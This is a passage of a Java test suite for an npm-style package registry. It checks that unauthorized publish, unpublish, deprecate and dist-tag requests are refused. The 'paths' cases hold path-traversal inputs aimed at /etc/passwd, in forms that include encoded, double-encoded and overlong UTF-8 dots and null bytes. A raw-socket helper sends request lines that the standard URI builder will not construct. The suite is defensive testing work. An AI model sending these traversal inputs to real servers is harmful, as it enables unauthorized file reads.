                        "not one of its maintainers"),
                put(
                        "publish under someone else's user scope",
                        "@alice%2fnew-thing",
                        bob,
                        Tarballs.publishBody("@alice/new-thing", "1.0.0"),
                        403,
                        "does not belong to you"),
                put(
                        "publish under an unclaimed scope",
                        "@nobody%2fthing",
                        bob,
                        Tarballs.publishBody("@nobody/thing", "1.0.0"),
                        403,
                        "does not belong to you"),
                put(
                        "publish in an org one is not a member of",
                        "@acme%2fnew-thing",
                        bob,
                        Tarballs.publishBody("@acme/new-thing", "1.0.0"),
                        403,
                        "not a member of org"),
                put(
                        "new version of an invisible restricted package",
                        "@alice%2fsecret",
                        bob,
                        Tarballs.publishBody("@alice/secret", "2.0.0"),
                        404,
                        "not found"),
                call(
                        "unauthenticated unpublish",
                        () -> http.delete("existing/-rev/" + rev("existing"), null),
                        401,
                        "must be logged in"),
                call(
                        "unpublish by a non-maintainer",
                        () -> http.delete("existing/-rev/" + rev("existing"), bob),
                        403,
                        "not one of its maintainers"),
                call(
                        "tarball unpublish by a non-maintainer",
                        () -> http.delete("existing/-/existing-1.0.0.tgz/-rev/" + rev("existing"), bob),
                        403,
                        "not one of its maintainers"),
                call(
                        "unpublish of an invisible restricted package",
                        () -> http.delete("@alice%2fsecret/-rev/1-x", bob),
                        404,
                        "not found"),
                call(
                        "unpublish with a stale revision",
                        () -> http.delete("existing/-rev/1-stale", alice),
                        409,
                        "changed since you read it"),
                call(
                        "version unpublish via PUT by a non-maintainer",
                        () -> http.put(
                                "existing/-rev/" + rev("existing"),
                                bob,
                                "{\"_id\":\"existing\",\"name\":\"existing\",\"versions\":{}}"),
                        403,
                        "not one of its maintainers"),
                call(
                        "owner add by a non-maintainer",
                        () -> http.put(
                                "existing/-rev/" + rev("existing"),
                                bob,
                                "{\"_id\":\"existing\",\"maintainers\":[{\"name\":\"bob\"}]}"),
                        403,
                        "not one of its maintainers"),
                call(
                        "deprecate by a non-maintainer",
                        () -> http.put(
                                "existing",
                                bob,
                                "{\"name\":\"existing\",\"versions\":{\"1.0.0\":{\"deprecated\":\"pwned\"}}}"),
                        403,
                        "not one of its maintainers"),
                call(
                        "deprecate of a version that does not exist",
                        () -> http.put(
                                "existing",
                                alice,
                                "{\"name\":\"existing\",\"versions\":{\"9.9.9\":{\"deprecated\":\"x\"}}}"),
                        404,
                        "does not exist"),
                call(
                        "dist-tag set by a non-maintainer",
                        () -> http.put("-/package/existing/dist-tags/beta", bob, "\"1.0.0\""),
                        403,
                        "not one of its maintainers"),
                call(
                        "dist-tag named like a range",
                        () -> http.put("-/package/existing/dist-tags/1.x", alice, "\"1.0.0\""),
                        400,
                        "Invalid dist-tag"),
                call(
                        "dist-tag on a missing version",
                        () -> http.put("-/package/existing/dist-tags/beta", alice, "\"9.9.9\""),
                        404,
                        "does not exist"),
                call(
                        "removing the latest dist-tag",
                        () -> http.delete("-/package/existing/dist-tags/latest", alice),
                        400,
                        "latest tag cannot be removed"),
                call(
                        "unauthenticated dist-tag set",
                        () -> http.put("-/package/existing/dist-tags/beta", null, "\"1.0.0\""),
                        401,
                        "must be logged in"));
    }

    static ObjectNode withName(String name, String version, Consumer<ObjectNode> change) {
        ObjectNode m = Tarballs.manifest(name, version);
        change.accept(m);
        return Tarballs.publishBody(m, Tarballs.packageTgz(m), "latest");
    }

    List<Case> paths() {
        ObjectNode body = fresh();
        return List.of(
                call("GET /%2e%2e%2fetc", () -> http.get("%2e%2e%2fetc", null), 400, "Invalid package name"),
                put("PUT /%2e%2e%2fetc", "%2e%2e%2fetc", alice, body, 400, "Invalid package name"),
                call(
                        "GET /%2E%2E%2Fetc%2Fpasswd",
                        () -> http.get("%2E%2E%2Fetc%2Fpasswd", null), 400, "Invalid package name"),
                call("GET /@acme%2f..", () -> http.get("@acme%2f..", null), 400, "cannot start with a period"),
                call("GET /@acme%2f%2e%2e", () -> http.get("@acme%2f%2e%2e", null), 400, "cannot start with a period"),
                put("PUT /@acme%2f%2e%2e", "@acme%2f%2e%2e", alice, body, 400, "cannot start with a period"),
                call(
                        "GET /@acme%2flib%2f..%2f..%2fexisting",
                        () -> http.get("@acme%2flib%2f..%2f..%2fexisting", null), 400, "a scoped name is @scope/name"),
                call(
                        "GET /..%2f..%2fetc%2fpasswd",
                        () -> http.get("..%2f..%2fetc%2fpasswd", null), 400, "Invalid package name"),
                call(
                        "GET /%252e%252e%252fetc (double-encoded)",
                        () -> http.get("%252e%252e%252fetc", null), 400, "URL-friendly"),
                call("GET /foo%00bar", () -> http.get("foo%00bar", null), 400, "malformed"),
                put("PUT /foo%00bar", "foo%00bar", alice, body, 400, "malformed"),
                call("GET /foo%2 (truncated escape)", () -> rawGet("/foo%2"), 400, "malformed"),
                call("GET /foo%zz (bad escape)", () -> rawGet("/foo%zz"), 400, "malformed"),
                call(
                        "GET /%c0%ae%c0%ae%2fetc (overlong UTF-8 dots)",
                        () -> http.get("%c0%ae%c0%ae%2fetc", null), 400, "malformed"),
                call("GET /%2e%2e", () -> http.get("%2e%2e", null), 400, "malformed"),
                call("GET /..%2f (raw)", () -> rawGet("/..%2f"), 400, "Invalid package name"),
                call(
                        "GET tarball with a traversal version",
                        () -> http.get("existing/-/existing-%2e%2e%2f%2e%2e%2fetc.tgz", null),
                        404,
                        "Tarball not found"),
                call(
                        "GET tarball of another package",
                        () -> http.get("existing/-/reuse-pkg-1.0.0.tgz", null),
                        404,
                        "Tarball not found"),
                call(
                        "DELETE /%2e%2e%2fetc/-rev/1",
                        () -> http.delete("%2e%2e%2fetc/-rev/1", alice), 400, "Invalid package name"),
                call(
                        "dist-tags of /%2e%2e%2fetc",
                        () -> http.get("-/package/%2e%2e%2fetc/dist-tags", alice), 400, "Invalid package name"),
                call(
                        "GET /@acme (scope without name)",
                        () -> http.get("@acme", null),
                        400,
                        "a scoped name is @scope/name"));
    }

    // ------------------------------------------------------------------ small helpers

    static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    static byte[] random(int n) {
        byte[] b = new byte[n];
        new Random(n).nextBytes(b);
        return b;
    }

    /** A GET sent over a plain socket, for request lines java.net.URI refuses to build. */
    Http.Response rawGet(String rawPath) {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), registry.port)) {
            socket.getOutputStream()
                    .write(("GET " + rawPath + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                            .getBytes(StandardCharsets.ISO_8859_1));
            String response = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            int split = response.indexOf("\r\n\r\n");
            String[] head = response.substring(0, split).split("\r\n");
            Map<String, List<String>> headers = new LinkedHashMap<>();
            for (int i = 1; i < head.length; i++) {
                int colon = head[i].indexOf(':');
                headers.computeIfAbsent(head[i].substring(0, colon).trim(), k -> new ArrayList<>())
                        .add(head[i].substring(colon + 1).trim());
            }
            String body = response.substring(split + 4);
            if (headers.getOrDefault("Transfer-Encoding", List.of()).contains("chunked")) {
                StringBuilder out = new StringBuilder();
                for (int at = 0; ; ) {
                    int eol = body.indexOf("\r\n", at);
                    int size = Integer.parseInt(body.substring(at, eol).trim(), 16);
                    if (size == 0) {
                        break;
                    }
                    out.append(body, eol + 2, eol + 2 + size);
                    at = eol + 2 + size + 2;
                }
                body = out.toString();
            }
            return new Http.Response(
                    Integer.parseInt(head[0].split(" ")[1]), body, HttpHeaders.of(headers, (a, b) -> true));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A JSON PUT with extra headers; chunked: without Content-Length, so the size is only known while reading.
     * The server may refuse an oversized body before the client has finished sending it and close the connection;
     * the client then sees a reset instead of the answer, so such a send is retried (the answer must still be 413).
     */
    Http.Response raw(String path, byte[] body, boolean chunked, String... headers) {
        for (int attempt = 1; ; attempt++) {
            try {
                return rawOnce(path, body, chunked, headers);
            } catch (UncheckedIOException e) {
                if (attempt == 5) {
                    throw e;
                }
            }
        }
    }

    Http.Response rawOnce(String path, byte[] body, boolean chunked, String... headers) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(registry.url() + path))
                .header("Content-Type", "application/json")
                .timeout(java.time.Duration.ofSeconds(30))
                .PUT(
                        chunked
                                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))
                                : HttpRequest.BodyPublishers.ofByteArray(body));
        for (int i = 0; i < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        try {
            HttpResponse<String> r = HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
            return new Http.Response(r.statusCode(), r.body(), r.headers());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }
}
